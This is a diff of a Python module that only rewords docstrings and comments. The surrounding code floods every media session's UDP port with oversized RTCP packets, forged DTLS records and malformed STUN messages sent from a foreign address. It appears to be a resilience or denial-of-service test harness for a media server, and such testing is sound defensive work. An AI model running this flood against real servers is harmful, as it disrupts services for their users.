@@ -13,14 +13,14 @@ from collections.abc import Iterator
 from .attack_target import Target
 
 DATAGRAMS_PER_S = 4_000
-"""Of a flood of datagrams: what one sender on a slow line can do."""
+"""Rate of a flood: what one sender on a slow line can do."""
 
 MAGIC_COOKIE = 0x2112A442
-"""Of STUN (RFC 8489, section 5)."""
+"""Magic cookie of STUN (RFC 8489, section 5)."""
 
 
 async def flood(target: Target, datagrams: Iterator[bytes]) -> None:
-    """Send datagrams to every session's port, from an address that no session has."""
+    """Send datagrams to every session's port, from an address that belongs to no session."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
         sender.setblocking(False)
         began_s = time.monotonic()
@@ -33,19 +33,19 @@ async def flood(target: Target, datagrams: Iterator[bytes]) -> None:
             try:
                 sender.sendto(datagram, target.endpoints[sent % len(target.endpoints)])
                 target.done["datagrams"] += 1
-            except OSError as error:  # a port that was closed says so; the next one is tried
+            except OSError as error:  # a closed port reports an error; try the next one
                 target.done[type(error).__name__] += 1
 
 
 def long_rtcp() -> Iterator[bytes]:
-    """Yield datagrams that look like RTCP and are longer than libsrtp takes."""
+    """Yield datagrams that look like RTCP and exceed libsrtp's limit."""
     body = os.urandom(1_598)
     while True:
         yield b"\x80\xc8" + body
 
 
 def forged_dtls() -> Iterator[bytes]:
-    """Yield DTLS records of every kind (RFC 6347, section 4.1), all made up."""
+    """Yield forged DTLS records of every kind (RFC 6347, section 4.1)."""
     chance = random.Random(12)
     while True:
         kind, size = chance.choice((20, 21, 22, 23)), chance.randrange(2, 200)
@@ -54,7 +54,7 @@ def forged_dtls() -> Iterator[bytes]:
 
 
 def malformed_stun() -> Iterator[bytes]:
-    """Yield STUN messages whose attributes are cut off (RFC 8489, section 14)."""
+    """Yield STUN messages with truncated attributes (RFC 8489, section 14)."""
     chance = random.Random(19)
     while True:
         attributes = b"".join(
@@ -66,12 +66,12 @@ def malformed_stun() -> Iterator[bytes]:
 
 
 async def long_datagrams(target: Target) -> None:
-    """Datagrams too long for SRTP, then forged DTLS records, from a stranger's address."""
+    """Send datagrams too long for SRTP, then forged DTLS records, from a stranger's address."""
     half = target._replace(seconds=target.seconds / 2)
     await flood(half, long_rtcp())
     await flood(half, forged_dtls())
 
 
 async def stun(target: Target) -> None:
-    """Malformed STUN messages from a stranger's address."""
+    """Send malformed STUN messages from a stranger's address."""
     await flood(target, malformed_stun())
